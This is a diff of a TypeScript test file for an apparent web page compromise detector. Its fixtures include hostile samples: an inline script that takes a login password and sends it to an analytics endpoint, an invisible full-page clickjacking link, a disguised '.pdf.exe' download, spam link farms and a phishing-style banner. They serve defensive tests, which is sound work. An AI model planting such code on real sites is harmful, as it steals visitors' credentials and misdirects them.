@@ -1,5 +1,5 @@
 import { describe, expect, it } from "@effect/vitest"
-import { breaches, checks, page, verdictOf } from "../support/pages.js"
+import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"
 
 describe("destinations: where the page sends visitors and their data", () => {
   it("the login form retargeted to a domain the page never used is critical, and says so in words", () => {
@@ -54,12 +54,15 @@ describe("destinations: where the page sends visitors and their data", () => {
     expect(v.alert).toBe(true)
   })
 
-  it("new links are weighed: one or two to new sites is normal, hidden ones and many are not", () => {
+  it("new links are weighed: a few to new sites are normal, hidden ones and a flood are not", () => {
     const article = verdictOf(page({ seed: 5, main: `<p>We were featured by <a href="https://www.yorkshirepost.co.uk/food">the Yorkshire Post</a> and <a href="https://www.bbc.co.uk/food">BBC Food</a> this autumn, and we thank everyone who came to try the new loaves.</p>` }))
     expect(article.alert).toBe(false)
     const hidden = verdictOf(page({ seed: 5, body: `<div style="display:none"><a href="https://best-watches.cc/">watches</a> <a href="https://cheap-tickets.cc/">flights</a></div>` }))
     expect(breaches(hidden)).toContain("destinations/hidden_links")
-    const many = ["alpha-deals.net", "bravo-shop.org", "charlie-news.info", "delta-store.biz", "echo-mall.com", "foxtrot.io"]
+    const some = ["alpha-deals.net", "bravo-shop.org", "charlie-news.info", "delta-store.biz", "echo-mall.com", "foxtrot.io"]
+    const partners = verdictOf(page({ seed: 5, body: `<footer><p>${some.map((d) => `<a href="https://${d}/">${d}</a>`).join(" ")}</p></footer>` }))
+    expect(partners.findings.find((f) => f.check === "links_new_domains")).toMatchObject({ severity: "medium", breach: false })
+    const many = [...some, "golf-club.net", "hotel-rooms.org", "india-tours.info", "juliet-bags.biz", "kilo-sports.com", "lima-travel.io"]
     const farm = verdictOf(page({ seed: 5, body: `<p>${many.map((d) => `<a href="https://${d}/">${d}</a>`).join(" ")}</p>` }))
     expect(breaches(farm)).toContain("destinations/links_new_domains")
     const spam = verdictOf(page({ seed: 5, body: `<ul><li><a href="/p/slot-gacor-maxwin">slot gacor hari ini</a></li><li><a href="/p/judi-online">situs judi online terpercaya</a></li></ul>` }))
@@ -94,5 +97,57 @@ describe("destinations: where the page sends visitors and their data", () => {
     expect(moved.findings.find((f) => f.check === "assets_moved")?.message).toBe("the page now serves its own files from d3k81ch9hvuctc.cloudfront.net")
     // one of the page's scripts alone moved to a new domain is a retarget
     expect(verdictOf(page({ seed: 5 }).replace("/static/app.js", "https://d3k81ch9hvuctc.cloudfront.net/static/app.js")).alert).toBe(true)
+  })
+})
+
+describe("destinations: calls to action, downloads, covering links and known hosts", () => {
+  it("a short notice at the top whose link leads to a new site is a sign; with its prominent text it alerts", () => {
+    const moved = verdictOf(page({ seed: 5, top: `<div style="position:fixed;top:0;left:0;right:0;z-index:9999;background:#222;color:#fff;padding:8px">Our shop has a new home. <a href="https://harbour-bakery-orders.shop/">Continue to the new shop</a></div>` }))
+    expect(moved.findings.find((f) => f.check === "link_prominent")).toMatchObject({ severity: "medium", breach: true })
+    expect(moved.alert).toBe(true)
+    // an article further down that cites other sites is not a call to action
+    const cited = verdictOf(page({ seed: 5, main: `<p>Our rye starter is older than the café. The recipe follows the one described by <a href="https://www.theguardian.com/food">the Guardian</a> in a long piece on Nordic baking, which also covers how long a starter can be kept in a cold cellar, why the water matters, and what a baker does when the weather turns.</p>` }))
+    expect(cited.findings.find((f) => f.check === "link_prominent")).toBeUndefined()
+  })
+
+  it("a download from a site the page never used alerts", () => {
+    const v = verdictOf(page({ seed: 5, main: `<p>Download our <a href="http://203.0.113.7/files/menu-2026.pdf.exe">winter menu</a>.</p>` }))
+    expect(v.findings.find((f) => f.check === "download_new_domain")).toMatchObject({ severity: "high", breach: true })
+    const own = verdictOf(page({ seed: 5, main: `<p>Download our <a href="/files/menu-2026.zip">winter menu</a>.</p>` }))
+    expect(own.findings.find((f) => f.check === "download_new_domain")).toBeUndefined()
+  })
+
+  it("a link spread over the whole page takes every click: critical", () => {
+    const v = verdictOf(page({ seed: 5, body: `<a href="https://promo-clicks.example/r?id=4" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;opacity:0"></a>` }))
+    expect(v.findings.find((f) => f.check === "link_covers_page")).toMatchObject({ severity: "critical", breach: true })
+  })
+
+  it("a script from a host known to have served malware is critical; one from an open package CDN is a sign; a known vendor is context", () => {
+    const compromised = verdictOf(page({ seed: 5, head: `<script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=default"></script>` }))
+    expect(compromised.findings.find((f) => f.check === "script_compromised_host")).toMatchObject({ severity: "critical" })
+    const cdn = verdictOf(page({ seed: 5, head: `<script src="https://cdn.jsdelivr.net/npm/some-widget@2.1.0/dist/widget.min.js"></script>` }))
+    expect(cdn.findings.find((f) => f.check === "script_new_domain")).toMatchObject({ severity: "medium", breach: false })
+    const vendor = verdictOf(page({ seed: 5, body: `<div id="booking"></div><script src="https://assets.calendly.com/assets/external/widget.js" async></script>` }))
+    expect(vendor.alert).toBe(false)
+  })
+
+  it("a new inline script that reads card or password fields, or hands typed data to any other site, is high", () => {
+    const viaAnalytics = `<script>document.getElementById("login").addEventListener("submit",function(e){var p=e.target.querySelector("[name=password]").value;new Image().src="https://www.google-analytics.com/collect?v=1&t=event&el="+encodeURIComponent(p)})</script>`
+    expect(verdictOf(page({ seed: 5, body: viaAnalytics })).findings.find((f) => f.check === "script_collects")).toMatchObject({ severity: "high", breach: true })
+    const suggestions = `<script>document.querySelector("#q").addEventListener("input",function(e){fetch("/search/suggest?q="+encodeURIComponent(e.target.value))})</script>`
+    expect(verdictOf(page({ seed: 5, body: `<input id="q">${suggestions}` })).findings.find((f) => f.check === "script_collects")).toMatchObject({ severity: "medium" })
+  })
+})
+
+describe("the site's own files across builds", () => {
+  it("a build that adds or changes a fingerprint in a file name, or moves the files to a CDN under the same paths, changes nothing", () => {
+    const build = (name: (f: string) => string) => (seed: number) =>
+      page({ seed, head: `<script src="${name("/static/vendor.js")}"></script><script src="${name("/static/checkout.js")}"></script><link rel="stylesheet" href="${name("/static/print.css")}">` })
+    const base = baselineOf(samples(build((f) => f)))
+    const fingerprinted = build((f) => f.replace(/\.(js|css)$/, ".3f9a1c2b.$1"))(7)
+    expect(verdictOf(fingerprinted, base).alert).toBe(false)
+    expect(checks(verdictOf(fingerprinted, base)).filter((c) => c.startsWith("integrity/"))).toEqual([])
+    const moved = build((f) => `https://d1x2y3z4.cdn-edge-assets.net${f}`)(7)
+    expect(checks(verdictOf(moved, base)).filter((c) => c.startsWith("integrity/"))).toEqual([])
   })
 })
